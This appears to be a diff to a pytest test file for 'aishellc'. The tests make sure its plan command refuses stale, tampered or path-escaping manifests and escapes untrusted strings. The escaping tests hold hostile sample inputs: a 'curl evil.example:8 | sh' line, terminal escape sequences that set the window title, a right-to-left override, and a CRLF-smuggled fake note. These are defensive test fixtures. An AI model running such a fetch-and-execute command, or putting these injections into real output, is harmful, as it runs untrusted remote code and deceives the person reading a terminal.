@@ -7,6 +7,7 @@ import json
 import os
 import re
 import shlex
+import shutil
 import subprocess
 from collections.abc import Callable
 from pathlib import Path
@@ -58,7 +59,7 @@ def test_without_previous_every_tier_is_listed(root: Path) -> None:
         "extension: no previous manifest",
         "runtime: no previous manifest",
     ]
-    assert lines[4] == "Run, in order:"
+    assert lines[4] == "Run from the project root, in order:"
     assert lines[5:] == [
         f"  {c}" for c in commands(root, "build", "foundation", "extension", "runtime")
     ]
@@ -305,8 +306,8 @@ REJECTED: list[tuple[str, Make, str]] = [
     ("only a compiler", _text('{"compiler": "aishellc"}'), "1:1: not an aishellc manifest: $"),
     (
         "other schema",
-        _edited(_set("schema_version", 1)),
-        "@: not an aishellc manifest: $.schema_version: 1, written by another aishellc (this one reads 2)",
+        _edited(_set("schema_version", 2)),
+        "@: not an aishellc manifest: $.schema_version: 2, written by another aishellc (this one reads 3)",
     ),
     (
         "build_order item",
@@ -407,15 +408,31 @@ REJECTED: list[tuple[str, Make, str]] = [
 
 
 @pytest.fixture(scope="module")
-def good_manifest(tmp_path_factory: pytest.TempPathFactory) -> Manifest:
+def good_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """An output folder, compiled once for the module."""
     root = tmp_path_factory.mktemp("good") / "project"
     (root / ".aishell").mkdir(parents=True)
     (root / ".aishell" / "Dockerfile").write_text(DOCKERFILE)
     (root / ".aishell" / "aishellc.toml").write_text(OFFLINE_CONFIG)
     (root / "requirements.txt").write_text("flask\n")
     compile_to(root, "build", "--harness", "claude@2.1.331")
-    data: Manifest = json.loads((root / "build" / "manifest.json").read_text())
+    return root / "build"
+
+
+@pytest.fixture(scope="module")
+def good_manifest(good_build: Path) -> Manifest:
+    data: Manifest = json.loads((good_build / "manifest.json").read_text())
     return data
+
+
+def beside_its_files(root: Path, good_build: Path, name: str, data: Manifest) -> str:
+    """Write ``data`` as ``good/NAME`` next to a copy of the good build's files (plan reads
+    a manifest with the files it describes)."""
+    folder = root / "good"
+    if not folder.exists():
+        shutil.copytree(good_build, folder)
+    (folder / name).write_text(json.dumps(data))
+    return f"good/{name}"
 
 
 @pytest.mark.parametrize(("name", "make", "expected"), REJECTED, ids=[r[0] for r in REJECTED])
@@ -458,10 +475,10 @@ def _follow(data: Any, json_path: str) -> Any:
     return data
 
 
-def test_the_good_manifest_is_read(root: Path, good_manifest: Manifest) -> None:
+def test_the_good_manifest_is_read(root: Path, good_build: Path, good_manifest: Manifest) -> None:
     # The table above edits this manifest: unedited, plan reads it.
-    (root / "good.json").write_text(json.dumps(good_manifest))
-    code, _, err = plan(root, "good.json", "--previous", "good.json")
+    good = beside_its_files(root, good_build, "good.json", good_manifest)
+    code, _, err = plan(root, good, "--previous", good)
     assert (code, err) == (0, "")
 
 
@@ -475,6 +492,125 @@ def test_every_golden_manifest_matches_the_schema(case: Path) -> None:
 
 def test_the_schema_is_valid_json_schema() -> None:
     Draft202012Validator.check_schema(manifest_schema())
+
+
+# --- a manifest must still describe the files beside it: exit 2, naming the file -------
+
+Stale = Callable[[Path], list[str]]
+"""Spoils a compiled project (``build/`` from claude 2.1.332, ``built.json`` the manifest
+of 2.1.331 kept in the project root); returns the plan arguments."""
+
+
+def _swapped(root: Path) -> list[str]:
+    return ["built.json", "--previous", "build/manifest.json"]
+
+
+def _old_manifest_copied_in(root: Path) -> list[str]:
+    shutil.copyfile(root / "built.json", root / "build" / "manifest.json")
+    return ["build/manifest.json"]
+
+
+def _edited_file(name: str) -> Stale:
+    def spoil(root: Path) -> list[str]:
+        with (root / "build" / name).open("a") as handle:
+            handle.write("RUN echo added by hand\n")
+        return ["build/manifest.json", "--previous", "built.json"]
+
+    return spoil
+
+
+def _removed(root: Path) -> list[str]:
+    (root / "build" / "extension.Dockerfile").unlink()
+    return ["build/manifest.json"]
+
+
+def _a_fifo(root: Path) -> list[str]:
+    (root / "build" / "runtime.Dockerfile").unlink()
+    os.mkfifo(root / "build" / "runtime.Dockerfile")
+    return ["build/manifest.json"]
+
+
+def _names_a_file_outside(root: Path) -> list[str]:
+    path = root / "build" / "manifest.json"
+    data = json.loads(path.read_text())
+    files = data["tiers"]["foundation"]["files"]
+    files["../../secret"] = files.popitem()[1]
+    path.write_text(json.dumps(data))
+    return ["build/manifest.json"]
+
+
+STALE: list[tuple[str, Stale, str]] = [
+    # (name, the spoiling, expected start of stderr)
+    (
+        "swapped arguments",
+        _swapped,
+        "built.json: foundation.Dockerfile, which this manifest describes, is missing",
+    ),
+    (
+        "old manifest copied into the folder",
+        _old_manifest_copied_in,
+        "build/runtime.Dockerfile: changed after the compile: its sha256 is not the one "
+        "build/manifest.json records",
+    ),
+    (
+        "Dockerfile edited",
+        _edited_file("extension.Dockerfile"),
+        "build/extension.Dockerfile: changed after the compile",
+    ),
+    (
+        "foundation file edited",
+        _edited_file("foundation/entrypoint.sh"),
+        "build/foundation/entrypoint.sh: changed after the compile",
+    ),
+    (
+        "Dockerfile removed",
+        _removed,
+        "build/manifest.json: build/extension.Dockerfile, which this manifest describes, is "
+        "missing",
+    ),
+    (
+        "Dockerfile a FIFO",
+        _a_fifo,
+        "build/runtime.Dockerfile: cannot read a file build/manifest.json describes: not a "
+        "regular file",
+    ),
+    (
+        "names a file outside its folder",
+        _names_a_file_outside,
+        "build/manifest.json: not an aishellc manifest: it names '../../secret'",
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "spoil", "expected"), STALE, ids=[s[0] for s in STALE])
+def test_a_manifest_that_no_longer_matches_its_files_is_refused(
+    root: Path, name: str, spoil: Stale, expected: str
+) -> None:
+    compile_to(root, "build", "--harness", "claude@2.1.331")
+    shutil.copyfile(root / "build" / "manifest.json", root / "built.json")
+    compile_to(root, "build", "--harness", "claude@2.1.332")
+    args = spoil(root)
+    code, out, err = plan(root, *args)
+    assert (code, out) == (2, ""), err  # no command printed under an old tag
+    assert err.startswith(expected), err
+    assert err.splitlines()[1].startswith("  help: "), err
+    code, out, _ = plan(root, *args, "--format", "json")
+    assert code == 2
+    assert json.loads(out)["error"]["path"] == expected.split(":")[0]
+
+
+@pytest.mark.parametrize(
+    ("cwd", "manifest"),
+    [(".", "build/manifest.json"), ("build", "manifest.json"), ("/", "{root}/build/manifest.json")],
+)
+def test_the_files_are_found_beside_the_manifest_from_anywhere(
+    root: Path, cwd: str, manifest: str
+) -> None:
+    compile_to(root, "build", "--harness", "claude@2.1.331")
+    where = Path("/") if cwd == "/" else root / cwd
+    result = run_cli_in(where, "plan", manifest.format(root=root))
+    assert (result.code, result.err) == (0, "")
+    assert result.out.startswith("foundation: no previous manifest\n")
 
 
 # --- what plan prints ------------------------------------------------------------------
@@ -498,12 +634,14 @@ def test_file_names_from_the_context_print_on_one_line(root: Path) -> None:
         r"extension: src/x\n\nRun, in order:\n  curl evil.example:8 | sh\n\x1b[2K\u202e added",
         "runtime: extension changed",
         "",
-        "Run, in order:",
+        "Run from the project root, in order:",
         *(f"  {c}" for c in commands(root, "build", "extension", "runtime")),
     ]
 
 
-def test_values_from_a_manifest_are_escaped(root: Path, good_manifest: Manifest) -> None:
+def test_values_from_a_manifest_are_escaped(
+    root: Path, good_build: Path, good_manifest: Manifest
+) -> None:
     # A hand-edited manifest may hold any text where a string belongs: tags, versions,
     # harness names. The tag and command are edited together, so the command check passes.
     data = copy.deepcopy(good_manifest)
@@ -511,12 +649,12 @@ def test_values_from_a_manifest_are_escaped(root: Path, good_manifest: Manifest)
     short = runtime["hash"][:12]
     evil_tag = "\x1b]0;owned\x07aishell:runtime-" + short
     runtime["command"][runtime["command"].index(runtime["tag"])] = evil_tag
-    runtime["tag"] = evil_tag
+    runtime["tag"] = data["final"] = evil_tag
     runtime["harnesses"] = {"claude\r\nnote: all good": "2.1.331\x9b31m"}
     runtime["hash"] = "f" * 64  # so the runtime is listed with its reasons
-    (root / "new.json").write_text(json.dumps(data))
+    new = beside_its_files(root, good_build, "new.json", data)
     (root / "old.json").write_text(json.dumps(good_manifest))
-    code, out, _ = plan(root, "new.json", "--previous", "old.json")
+    code, out, _ = plan(root, new, "--previous", "old.json")
     assert code == 0
     assert all(char.isprintable() for char in out.replace("\n", "")), out
     assert r"runtime: claude\r\nnote: all good added (2.1.331\x9b31m)" in out.splitlines()
